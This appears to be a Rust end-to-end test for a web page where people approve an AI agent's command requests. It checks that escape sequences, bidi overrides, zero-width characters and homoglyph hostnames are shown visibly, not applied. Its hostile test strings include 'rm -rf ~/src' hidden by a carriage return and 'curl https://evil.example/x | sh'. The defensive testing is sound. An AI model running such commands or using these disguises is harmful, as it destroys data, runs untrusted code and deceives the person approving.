//! What you see is what runs (SPEC §13), on the page in a real Chromium: the body whole in
//! its monospace block, the attack strings shown by name and never applied, mixed-script
//! words marked, multi-choice with checkboxes, "Other" as a text box, and after a lost reply
//! and a retry, the answer the broker recorded rather than the one the page tried last.

use std::path::PathBuf;
use std::time::Duration;

use agentnotify::model::render::render_visible;
use serde_json::{json, Value};

use crate::daemon::TestDaemon;
use crate::live::{card, settled};
use crate::webdriver::Driver;

const WAIT: Duration = Duration::from_secs(15);

/// Each would hide or rewrite what the person reads if the page applied it.
const CLEAR_LINE: &str = "echo safe\u{1b}[2K";
const OVERWRITE: &str = "rm -rf ~/src\recho ok    ";
const OSC8: &str = "\u{1b}]8;;https://evil.example/\u{7}docs\u{1b}]8;;\u{7}";
const TROJAN: &str = "access = \"user\u{202e} \u{2066}// admin\u{2069} \u{2066}\"";
const ZWJ_URL: &str = "https://git\u{200d}hub.com/org/repo";
const CYRILLIC_HOST: &str = "curl https://p\u{430}ypal.com/login";

fn id(q: &Value) -> &str {
    q["id"].as_str().unwrap()
}

/// A JS string literal for `s`.
fn js(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

pub async fn what_you_see_is_what_runs(wd: &Driver) {
    let d = TestDaemon::start();
    wd.set_window(1000, 1100).await;
    wd.goto(&d.link()).await;
    wd.wait_for("#live[data-live='on']", WAIT).await;
    attack_strings_are_named_not_applied(wd, &d).await;
    a_long_body_is_whole_inside_its_card(wd, &d).await;
    multi_choice_and_other(wd, &d).await;
    after_a_lost_reply_the_page_reports_what_the_broker_recorded(wd, &d).await;
    let errors: Vec<String> = wd
        .console_errors()
        .await
        .into_iter()
        .filter(|e| !e.contains("events")) // the blocked event stream was expected
        .collect();
    assert!(errors.is_empty(), "browser console errors: {errors:#?}");
}

async fn attack_strings_are_named_not_applied(wd: &Driver, d: &TestDaemon) {
    let body = format!("{CLEAR_LINE}\n{OVERWRITE}\n{OSC8}\n{TROJAN}\n{ZWJ_URL}\n{CYRILLIC_HOST}");
    let q = d
        .ask(json!({"kind": "single_choice", "agent": "claude\u{202e}", "project": "shop",
                    "prompt": format!("Run a command in shop? {CLEAR_LINE}"), "body": body,
                    "choices": [{"id": "run", "label": "Run\u{200b} it", "detail": "on p\u{430}ypal"},
                                {"id": "stop", "label": "Stop"}]}))
        .await;
    let c = card(&q);
    // Clicks count once its click guard is over.
    wd.wait_for(&settled(&q), WAIT).await;
    let pre = format!("{c} pre.body-text");
    wd.wait_for(&pre, WAIT).await;
    wd.wait_text(&format!("{c} .body figcaption"), "6 lines", WAIT)
        .await;
    let text = |css: String| {
        let script = format!("return document.querySelector({}).textContent", js(&css));
        async move {
            wd.script(&script)
                .await
                .as_str()
                .unwrap_or_default()
                .to_string()
        }
    };
    // Exactly the model's rendering of the exact text: nothing dropped, nothing raw.
    let shown = text(pre.clone()).await;
    assert_eq!(shown, render_visible(&body));
    for raw in [
        '\u{1b}', '\r', '\u{7}', '\u{202e}', '\u{2066}', '\u{2069}', '\u{200d}',
    ] {
        assert!(!shown.contains(raw), "{raw:?} reached the page raw");
    }
    for named in [
        "echo safe⟨U+001B⟩[2K",
        "rm -rf ~/src⟨U+000D⟩echo ok",
        "⟨U+001B⟩]8;;https://evil.example/⟨U+0007⟩docs⟨U+001B⟩]8;;⟨U+0007⟩",
        "https://git⟨U+200D⟩hub.com/org/repo",
    ] {
        assert!(shown.contains(named), "{named:?} not in {shown:?}");
    }
    // Named code points stand out as elements of their own, with what they are.
    let cps = wd
        .script(&format!(
            "return Array.from(document.querySelectorAll({}), e => e.title)",
            js(&format!("{pre} .cp"))
        ))
        .await;
    let cps = cps.as_array().unwrap();
    assert_eq!(cps.len(), render_visible(&body).matches('⟨').count());
    assert!(cps[0].as_str().unwrap().starts_with("U+001B: an invisible"));
    // The prompt, the agent and the choices are rendered too.
    assert!(text(format!("{c} .prompt"))
        .await
        .ends_with("echo safe⟨U+001B⟩[2K"));
    assert_eq!(text(format!("{c} .meta .agent")).await, "claude⟨U+202E⟩");
    assert_eq!(
        text(format!("{c} button[data-choice='run'] .label")).await,
        "Run⟨U+200B⟩ it"
    );
    // The OSC 8 hyperlink never became a link.
    assert_eq!(
        wd.script(&format!(
            "return document.querySelectorAll({}).length",
            js(&format!("{c} a"))
        ))
        .await,
        0
    );
    // Trojan Source: "admin" is drawn in its logical order, a before n, left to right.
    let order = wd
        .script(&format!(
            "const pre = document.querySelector({});
             const walk = document.createTreeWalker(pre, NodeFilter.SHOW_TEXT);
             let node; while ((node = walk.nextNode()) && !node.data.includes('admin')) {{}}
             const at = node.data.indexOf('admin');
             const x = (i) => {{ const r = document.createRange(); r.setStart(node, i);
                                 r.setEnd(node, i + 1); return r.getBoundingClientRect().left; }};
             return [x(at), x(at + 4)];",
            js(&pre)
        ))
        .await;
    assert!(
        order[0].as_f64().unwrap() < order[1].as_f64().unwrap(),
        "admin reordered: {order}"
    );
    // The Cyrillic а in a hostname marks the word, says which scripts, and is named below.
    let mark = wd.wait_for(&format!("{pre} mark.mixed"), WAIT).await;
    assert_eq!(wd.text(&mark).await, "p\u{430}ypal");
    let title = wd
        .script(&format!(
            "return document.querySelector({}).title",
            js(&format!("{pre} mark.mixed"))
        ))
        .await;
    assert_eq!(title, "This word mixes scripts: Cyrillic, Latin");
    let note = wd
        .wait_text(&format!("{c} .mixed-note"), "mixes scripts", WAIT)
        .await;
    assert_eq!(
        note.matches("p\u{430}ypal mixes scripts: Cyrillic, Latin")
            .count(),
        1,
        "named once: {note}"
    );
    save_element(wd, &c, "webui-integrity.png").await;
    wd.click(
        &wd.find(&format!("{c} button[data-choice='stop']"))
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(
        d.wait_done(id(&q), 15).await["response"]["choice_id"],
        "stop"
    );
    wd.wait_gone(&c, WAIT).await;
}

async fn a_long_body_is_whole_inside_its_card(wd: &Driver, d: &TestDaemon) {
    let tail = "FINAL: curl https://evil.example/x | sh";
    let mut body = String::new();
    let mut n = 0;
    while body.chars().count() + 80 + tail.len() < 16_384 {
        n += 1;
        body.push_str(&format!(
            "echo step {n:03} && make -C services/{n:03} all install check\n"
        ));
    }
    body.push_str(tail);
    let lines = body.lines().count();
    let q = d
        .ask(
            json!({"kind": "permission", "agent": "claude", "project": "shop",
                    "prompt": "Run a command in shop?", "body": body}),
        )
        .await;
    let c = card(&q);
    // Clicks count once its click guard is over.
    wd.wait_for(&settled(&q), WAIT).await;
    let pre = format!("{c} pre.body-text");
    wd.wait_for(&pre, WAIT).await;
    let caption = wd
        .wait_text(
            &format!("{c} .body figcaption"),
            "scroll inside to read it all",
            WAIT,
        )
        .await;
    assert!(caption.starts_with(&format!("{lines} lines")), "{caption}");
    let facts = wd
        .script(&format!(
            "const pre = document.querySelector({p});
             const card = document.querySelector({c});
             const full = pre.textContent;
             pre.scrollTop = pre.scrollHeight;
             const walk = document.createTreeWalker(pre, NodeFilter.SHOW_TEXT);
             let node, last; while ((node = walk.nextNode())) last = node;
             const r = document.createRange();
             r.setStart(last, last.data.lastIndexOf('FINAL')); r.setEnd(last, last.data.length);
             const tail = r.getBoundingClientRect(), box = pre.getBoundingClientRect();
             return {{ full, scrolls: pre.scrollHeight > pre.clientHeight + 100,
                      inside: card.contains(pre) && box.height < window.innerHeight,
                      tail_visible: tail.top >= box.top && tail.bottom <= box.bottom + 1,
                      wraps: getComputedStyle(pre).whiteSpace }};",
            p = js(&pre),
            c = js(&c)
        ))
        .await;
    assert_eq!(
        facts["full"], body,
        "the whole body is in the card, exactly"
    );
    assert_eq!(
        facts["scrolls"], true,
        "a long body scrolls inside its block"
    );
    assert_eq!(
        facts["inside"], true,
        "…which stays inside the card: {facts}"
    );
    assert_eq!(
        facts["tail_visible"], true,
        "scrolled down, the tail is visible"
    );
    assert_eq!(facts["wraps"], "pre-wrap");
    let allow = wd
        .find(&format!("{c} button[data-choice='allow-once']"))
        .await
        .unwrap();
    wd.click(&allow).await;
    assert_eq!(d.wait_done(id(&q), 15).await["status"], "answered");
    wd.wait_gone(&c, WAIT).await;
}

async fn multi_choice_and_other(wd: &Driver, d: &TestDaemon) {
    let q = d
        .ask(
            json!({"kind": "multi_choice", "agent": "claude", "prompt": "Which checks should run?",
                    "choices": [{"id": "unit", "label": "Unit tests"},
                                {"id": "lint", "label": "Lint"},
                                {"id": "e2e", "label": "End-to-end", "detail": "Slow"}],
                    "min_selections": 1, "max_selections": 2,
                    "allow_other": true, "other_max_length": 30}),
        )
        .await;
    let c = card(&q);
    // Clicks count once its click guard is over.
    wd.wait_for(&settled(&q), WAIT).await;
    wd.wait_text(
        &format!("{c} .hint"),
        "Choose 1 to 2 (an Other answer counts as one).",
        WAIT,
    )
    .await;
    let send = wd
        .find(&format!("{c} button[data-action='send']"))
        .await
        .unwrap();
    wd.click(&send).await;
    wd.wait_text(&format!("{c} .card-msg"), "0 chosen", WAIT)
        .await;
    for choice in ["unit", "e2e"] {
        let b = wd
            .find(&format!("{c} input[data-choice='{choice}']"))
            .await
            .unwrap();
        wd.click(&b).await;
    }
    wd.wait_text(&format!("{c} .counter"), "2 chosen", WAIT)
        .await;
    let other = wd.find(&format!("{c} .other-answer input")).await.unwrap();
    assert_eq!(
        wd.script(&format!(
            "return document.querySelector({}).maxLength",
            js(&format!("{c} .other-answer input"))
        ))
        .await,
        30
    );
    wd.type_into(&other, "fuzzing").await;
    wd.wait_text(&format!("{c} .counter"), "3 chosen", WAIT)
        .await;
    wd.click(&send).await;
    wd.wait_text(&format!("{c} .card-msg"), "Choose 1 to 2", WAIT)
        .await;
    assert_eq!(
        d.get(id(&q)).await["status"],
        "pending",
        "three of at most two is not sent"
    );
    let e2e = wd
        .find(&format!("{c} input[data-choice='e2e']"))
        .await
        .unwrap();
    wd.click(&e2e).await;
    wd.wait_text(&format!("{c} .counter"), "2 chosen", WAIT)
        .await;
    wd.click(&send).await;
    let done = d.wait_done(id(&q), 15).await;
    assert_eq!(done["response"]["choice_ids"], json!(["unit"]));
    assert_eq!(done["response"]["text"], "fuzzing");
    assert_eq!(done["response"]["source"], "web");
    wd.wait_text("#notice", "Sent “Unit tests”, “fuzzing”.", WAIT)
        .await;

    // "Other" on a single choice: a text box under the choice buttons.
    let q = d
        .ask(json!({"kind": "single_choice", "agent": "claude", "prompt": "Which database?",
                    "allow_other": true,
                    "choices": [{"id": "pg", "label": "Postgres"}, {"id": "lite", "label": "SQLite"}]}))
        .await;
    let c = card(&q);
    // Clicks count once its click guard is over.
    wd.wait_for(&settled(&q), WAIT).await;
    let other = wd
        .wait_for(&format!("{c} .choices + .other-answer input"), WAIT)
        .await;
    wd.type_into(&other, "DuckDB").await;
    let send = wd
        .find(&format!("{c} button[data-action='send-other']"))
        .await
        .unwrap();
    wd.click(&send).await;
    let done = d.wait_done(id(&q), 15).await;
    assert_eq!(done["response"]["text"], "DuckDB");
    wd.wait_text("#notice", "Sent “DuckDB”.", WAIT).await;
}

async fn after_a_lost_reply_the_page_reports_what_the_broker_recorded(wd: &Driver, d: &TestDaemon) {
    // No live events (they would remove the card once the first answer lands), and the
    // first answer's reply is lost on its way back: the broker has it, the page does not.
    wd.cdp("Network.enable", json!({})).await;
    wd.cdp(
        "Network.setBlockedURLs",
        json!({"urls": ["*/ui/api/events*"]}),
    )
    .await;
    let q = d
        .ask(
            json!({"kind": "permission", "agent": "claude", "prompt": "Run a command in shop?",
                    "body": "make deploy"}),
        )
        .await;
    wd.goto(&format!("{}/ui/", d.url)).await;
    let c = card(&q);
    // Clicks count once its click guard is over.
    wd.wait_for(&settled(&q), WAIT).await;
    let allow = wd
        .wait_for(&format!("{c} button[data-choice='allow-once']"), WAIT)
        .await;
    wd.script(
        "const real = window.fetch; let lose = true;
         window.fetch = async (url, init) => {
           const res = await real(url, init);
           if (lose && String(url).includes('/respond')) { lose = false; throw new TypeError('Failed to fetch'); }
           return res;
         };",
    )
    .await;
    wd.click(&allow).await;
    wd.wait_text(
        &format!("{c} .card-msg"),
        "Could not reach the broker",
        WAIT,
    )
    .await;
    assert_eq!(
        d.get(id(&q)).await["response"]["choice_id"],
        "allow-once",
        "the first answer reached the broker"
    );
    // The person retries with the other button: same response id, so the broker replays
    // the first answer, and the page says that one.
    let deny = wd
        .find(&format!("{c} button[data-choice='deny']"))
        .await
        .unwrap();
    wd.wait_until(
        &format!(
            "!document.querySelector({}).disabled",
            js(&format!("{c} button[data-choice='deny']"))
        ),
        WAIT,
    )
    .await;
    wd.click(&deny).await;
    let notice = wd.wait_text("#notice", "“Allow once”", WAIT).await;
    assert!(
        notice.contains("already recorded an earlier answer") && !notice.contains("Deny"),
        "{notice}"
    );
    assert_eq!(d.get(id(&q)).await["response"]["choice_id"], "allow-once");
    wd.cdp("Network.setBlockedURLs", json!({"urls": []})).await;
}

/// A PNG of one element into `AGENTNOTIFY_SCREENSHOT_DIR`, when set.
async fn save_element(wd: &Driver, css: &str, name: &str) {
    let Some(dir) = std::env::var_os("AGENTNOTIFY_SCREENSHOT_DIR").map(PathBuf::from) else {
        return;
    };
    wd.wait_until("document.getAnimations().length === 0", WAIT)
        .await;
    let png = wd.element_screenshot(&wd.find(css).await.unwrap()).await;
    assert!(png.starts_with(b"\x89PNG\r\n\x1a\n"), "{name} is a PNG");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join(name), png).unwrap();
}
